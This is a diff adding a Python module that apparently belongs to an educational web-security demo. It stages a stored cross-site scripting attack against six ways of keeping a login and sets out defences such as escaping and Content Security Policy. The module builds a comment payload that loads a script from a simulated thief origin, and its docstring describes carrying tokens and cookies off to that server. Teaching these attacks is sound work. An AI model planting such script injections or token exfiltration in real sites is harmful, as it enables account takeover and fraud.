@@ -1,0 +1,178 @@
+"""A stored script in a page (XSS), against six ways to keep a login."""
+
+from collections.abc import Sequence
+
+from accounts.attacks._base import Attack, Cell, Defence, Reading, Result, Row, Stop
+from accounts.attacks.stage.hosts import Party, origin_of
+from accounts.attacks.stage.houses import HOUSES, House
+from accounts.models import AttackAct, AttackPlay
+
+NO_LOOT = "nothing to use"
+COLUMNS = (
+    "Did the script carry a login away?",
+    "Orders while the tab was open",
+    "Orders after it was closed",
+)
+WAIT = 2.5  # seconds; a token of two seconds is then over
+
+
+class ScriptInAComment(Attack):
+    """The shop prints comments as they were written. One of them loads a script from the thief.
+
+    In the victim's page the script first reads what it can reach: localStorage, cookies, the
+    browser's database. Then it asks the shop for a fresh token, as the page itself does. What it
+    finds goes to the thief's server. With what the page has, it orders twenty gold lamps. At last
+    the victim closes the tab, and the thief's server orders twenty more with what it was sent.
+    """
+
+    slug = "script-in-a-comment"
+    title = "A comment with a script in it"
+    known_as = "XSS"
+    goal = "Get an order through after the victim has closed the tab."
+    readings = (
+        Reading(
+            "RFC 10017, OAuth 2.0 for Browser-Based Applications, section 5",
+            "https://www.rfc-editor.org/info/rfc10017",
+        ),
+        Reading(
+            "OWASP: Cross Site Scripting Prevention",
+            "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
+        ),
+    )
+    defences = (
+        Defence("escape", "Escape the comment", "The shop writes < as &lt;, so it stays text."),
+        Defence(
+            "policy",
+            "Content Security Policy",
+            "The shop lets the browser run and call nothing from elsewhere.",
+        ),
+        Defence(
+            "password",
+            "Ask for the password before an order",
+            "Each order needs what the page does not keep.",
+        ),
+        Defence("short-life", "Tokens of two seconds", "An access token expires at once."),
+    )
+    caveat = (
+        "The script is written for this shop and does not ask the victim for the password, which a "
+        "real one could do with a form that looks like the shop's."
+    )
+    order = 10
+
+    def walk(self, play: AttackPlay) -> Sequence[Stop]:
+        comment = f'Nice lamp! <script src="{origin_of(Party.THIEF, play.home)}/x.js"></script>'
+        wait = WAIT if "short-life" in play.defences else 0
+        return [stop for house in HOUSES for stop in _stops(house, comment, wait)]
+
+    def result(self, play: AttackPlay, acts: Sequence[AttackAct]) -> Result:
+        rows = [_row(house, [act for act in acts if act.house == house.slug]) for house in HOUSES]
+        taken, ridden, later = (
+            [row.title for row in rows if row.cells[number].went_well is False]
+            for number in range(3)
+        )
+        return Result(
+            COLUMNS,
+            rows,
+            _sentence(taken, ridden, later, len(rows)),
+            _solved(ridden, later),
+        )
+
+
+def _stops(house: type[House], comment: str, wait: float) -> list[Stop]:
+    return [
+        Stop(
+            party=Party.SHOP,
+            house=house.slug,
+            title="The victim logs in",
+            button="Log in",
+            script="log-in.js",
+            template="attacks/log_in.html",
+            data={"title": house.title},
+        ),
+        Stop(
+            party=Party.SHOP,
+            house=house.slug,
+            title="The victim reads a comment",
+            button="Close the tab",
+            script="comment.js",
+            template="attacks/comment.html",
+            data={"title": house.title, "comment": comment},
+        ),
+        Stop(
+            party=Party.THIEF,
+            house=house.slug,
+            title="The tab is closed. The thief goes on",
+            button="Order lamps with what I have",
+            script="use.js",
+            template="attacks/use.html",
+            data={"title": house.title, "wait": wait},
+        ),
+    ]
+
+
+def _row(house: type[House], acts: Sequence[AttackAct]) -> Row:
+    loot = [act.facts for act in acts if act.name == "loot"]
+    tab = [act.facts for act in acts if act.name == "order" and act.facts["by"] == "tab"]
+    used = next((act.facts for act in acts if act.name == "used"), None)
+    return Row(
+        house.title,
+        (_carried(loot), _count(tab), _used(used)),
+        house.family,
+        [*map(_told, acts)],
+    )
+
+
+def _carried(loot: Sequence[dict[str, object]]) -> Cell:
+    if not loot:
+        return Cell("no", went_well=True)
+    if all(one["proofs"] for one in loot):
+        return Cell("a token, and proofs made in advance; not the key", went_well=False)
+    asked = all(one["kind"] == "asked" for one in loot)
+    return Cell("yes, it asked for a new one" if asked else "yes", went_well=False)
+
+
+def _count(orders: Sequence[dict[str, object]]) -> Cell:
+    if not orders:
+        return Cell("none: the script did not run", went_well=True)
+    through = sum(not one["refused"] for one in orders)
+    return Cell(f"{through} of {len(orders)}", went_well=not through)
+
+
+def _used(used: dict[str, int] | None) -> Cell:
+    if used is None:
+        return Cell("not played")
+    if not used["loot"]:
+        return Cell(f"0 of {used['orders']}: {NO_LOOT}", went_well=True)
+    return Cell(f"{used['ordered']} of {used['orders']}", went_well=not used["ordered"])
+
+
+def _told(act: AttackAct) -> str:
+    facts = act.facts
+    match act.name:
+        case "log-in":
+            return "The victim logged in."
+        case "loot":
+            return f"The thief's server got {facts['bytes']} bytes: {facts['masked']}"
+        case "order":
+            who = "The thief's server" if facts["by"] == "thief" else "The victim's tab"
+            return f"{who} ordered a {facts['item']}: {facts['refused'] or 'accepted'}"
+    return f"The thief's server had {facts['ordered']} of {facts['orders']} orders accepted."
+
+
+def _sentence(taken: list[str], ridden: list[str], later: list[str], total: int) -> str:
+    if not ridden and not later:
+        return "The script got nothing through."
+    if not later:
+        return "The script could use the login while the tab was open, and not afterwards."
+    safe = total - len(later)
+    return (
+        f"The open tab let orders through in {len(ridden)} of {total} houses. After it was closed, "
+        f"{len(later)} still did, and {safe} did not: what a script cannot read, it can use, but "
+        "not take along."
+    )
+
+
+def _solved(ridden: list[str], later: list[str]) -> str:
+    if later:
+        return "Goal reached: an order got through after the tab was closed."
+    return "" if ridden else "Every house is safe: you found a defence that stops this script."
